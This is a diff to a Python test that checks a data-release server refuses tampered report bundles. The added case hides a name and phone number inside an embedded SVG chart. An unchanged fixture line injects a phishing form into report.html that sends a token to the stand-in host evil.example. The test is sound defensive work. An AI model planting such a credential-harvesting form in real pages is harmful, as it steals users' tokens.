@@ -3,6 +3,7 @@ allowed cell values, only known hierarchies, bounded memory, strict headers and 
 
 from __future__ import annotations
 
+import base64
 import csv
 import hashlib
 import io
@@ -397,9 +398,16 @@ def test_served_files_must_be_what_the_receiver_builds_from_the_admitted_table(c
 
     bundle = make_bundle("ngo-a")
     phishing = bundle.files["report.html"].replace(b"</body>", b"<form action='https://evil.example'>Re-enter your token <input name=t></form></body>")
+    # a chart is SVG text inside report.html: a name written into it is refused like any other edit
+    page = bundle.files["report.html"].decode()
+    start = page.index("data:image/svg+xml;base64,") + len("data:image/svg+xml;base64,")
+    chart = base64.b64decode(page[start:page.index('"', start)]).decode()
+    assert ">Age at registration<" in chart
+    renamed = base64.b64encode(chart.replace(">Age at registration<", ">Anna Petrenko, +380501234567<").encode()).decode()
+    named_chart = (page[:start] + renamed + page[page.index('"', start):]).encode()
     package = json.loads(bundle.files["datapackage.json"])
     package["resources"][0]["schema"]["fields"][0]["description"] = "Anna Petrenko's case, +380501234567"
-    for name, content in (("report.html", phishing), ("codebook.md", bundle.files["codebook.md"] + b"\nVictim: Anna Petrenko, +380501234567\n"),
+    for name, content in (("report.html", phishing), ("report.html", named_chart), ("codebook.md", bundle.files["codebook.md"] + b"\nVictim: Anna Petrenko, +380501234567\n"),
                           ("datapackage.json", json.dumps(package, indent=2, sort_keys=True).encode() + b"\n")):
         files = rehash(tampered(bundle, name, content))
         response = central.upload(files, key=json.loads(files["manifest.json"])["release_id"])
